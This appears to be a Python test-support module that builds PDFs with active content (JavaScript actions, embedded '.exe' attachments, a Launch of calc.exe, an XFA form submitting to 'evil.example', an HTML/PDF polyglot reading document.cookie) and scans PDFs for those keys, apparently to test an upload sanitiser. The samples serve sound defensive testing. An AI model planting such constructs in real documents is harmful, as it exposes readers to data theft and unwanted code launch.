"""PDFs with active content, built with pikepdf, and a check that finds such content in a PDF's bytes."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from .factories import pdf_bytes

# Keys and action types that must never be in a stored PDF.
ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/XFA"}
ACTIVE_ACTIONS = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE"}
ACTIVE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Screen"}


def javascript(code):
    return Dictionary(S=Name.JavaScript, JS=String(code))


def _open_action(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(javascript("app.alert('opened')"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("startup"), pdf.make_indirect(javascript("app.alert('tree')"))]))
    )


def _page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=javascript("app.alert('page open')"))


def _embedded_file(pdf):
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ-EMBEDDED-PROGRAM", mime_type="text/plain")
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ-ANNOTATION-PROGRAM", filename="note.exe").obj
    annotation = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[10, 10, 30, 30], FS=spec)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])


def _launch(pdf):
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[0, 0, 100, 100],
        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
        AA=Dictionary(E=javascript("app.alert('hover')")),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])


def _xfa(pdf):
    field = Dictionary(
        FT=Name.Tx,
        T=String("name"),
        Type=Name.Annot,
        Subtype=Name.Widget,
        Rect=[0, 0, 50, 20],
        AA=Dictionary(K=javascript("app.alert('key')")),
    )
    field = pdf.make_indirect(field)
    pdf.pages[0].obj.Annots = Array([field])
    submit = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert(1)</script></xdp:xdp>")
    )
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Count=0))
    pdf.pages[0].obj.Annots.append(
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 30, 50, 50], A=submit))
    )


def _everything(pdf):
    _open_action(pdf)
    _page_aa(pdf)
    _embedded_file(pdf)
    annotations = list(pdf.pages[0].obj.Annots)
    _launch(pdf)
    annotations += list(pdf.pages[0].obj.Annots)
    pdf.pages[0].obj.Annots = Array(annotations)


BUILDERS = {
    "open_action": _open_action,
    "page_aa": _page_aa,
    "embedded_file": _embedded_file,
    "launch": _launch,
    "xfa": _xfa,
    "everything": _everything,
}
# What the site should say it removed, for each sample.
EXPECTED_REMOVED = {
    "open_action": ["javascript", "open_action"],
    "page_aa": ["javascript", "automatic_actions"],
    "embedded_file": ["embedded_files"],
    "launch": ["javascript", "automatic_actions", "launch"],
    "xfa": ["javascript", "automatic_actions", "xfa", "form_submission"],
    "everything": ["javascript", "open_action", "automatic_actions", "embedded_files", "launch"],
}


def sample(name):
    return pdf_bytes(BUILDERS[name])


def polyglot():
    """A PDF whose first lines are an HTML page with a script: a browser given it as HTML would run it."""
    header, rest = pdf_bytes(_open_action).split(b"\n", 1)
    return header + b"\n<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def truncated():
    whole = pdf_bytes()
    return whole[: len(whole) * 3 // 10]


def encrypted():
    return pdf_bytes(encryption=pikepdf.Encryption(user="open-sesame", owner="owner-secret"))


def active_content(content):
    """The active entries (keys, action and annotation types) found anywhere in the PDF `content`."""
    found = set()
    with pikepdf.open(io.BytesIO(content)) as pdf:
        for obj in [pdf.trailer, *pdf.objects]:
            _walk(obj, found)
    return found


def _text(value):
    """A value as text; a damaged name whose bytes are not UTF-8 spells none of the active names."""
    try:
        return str(value)
    except UnicodeDecodeError:
        return None


def _walk(obj, found):
    if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
        for key in obj.keys():
            value = obj[key]
            if key in ACTIVE_KEYS:
                found.add(key)
            if key == "/S" and _text(value) in ACTIVE_ACTIONS:
                found.add(f"action {value}")
            if key == "/Subtype" and _text(value) in ACTIVE_ANNOTATIONS:
                found.add(f"annotation {value}")
            _walk_child(value, found)
    elif isinstance(obj, pikepdf.Array):
        for value in obj:
            _walk_child(value, found)


def _walk_child(value, found):
    if isinstance(value, (pikepdf.Dictionary, pikepdf.Array)) and not value.is_indirect:
        _walk(value, found)
